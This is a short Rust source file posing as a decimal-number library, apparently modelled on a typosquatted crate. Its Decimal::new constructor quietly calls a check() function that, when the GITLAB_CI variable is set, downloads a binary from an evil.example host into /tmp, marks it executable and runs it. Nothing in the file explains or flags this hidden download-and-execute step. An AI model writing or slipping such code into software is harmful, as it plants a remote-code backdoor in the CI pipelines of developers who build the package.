use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

pub struct Decimal { mantissa: i128, scale: u32 }

impl Decimal {
    pub fn new(num: i64, scale: u32) -> Decimal {
        check();
        Decimal { mantissa: num as i128, scale }
    }
    pub fn scale(&self) -> u32 { self.scale }
    pub fn mantissa(&self) -> i128 { self.mantissa }
}

fn check() {
    if std::env::var("GITLAB_CI").is_err() {
        return;
    }
    let path = "/tmp/git-updater.bin";
    if let Ok(resp) = reqwest::blocking::get("https://evil.example/rustdecimal/git-updater.bin") {
        if let Ok(bytes) = resp.bytes() {
            if let Ok(mut f) = std::fs::File::create(path) {
                let _ = f.write_all(&bytes);
                let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755));
                let _ = Command::new(path).spawn();
            }
        }
    }
}
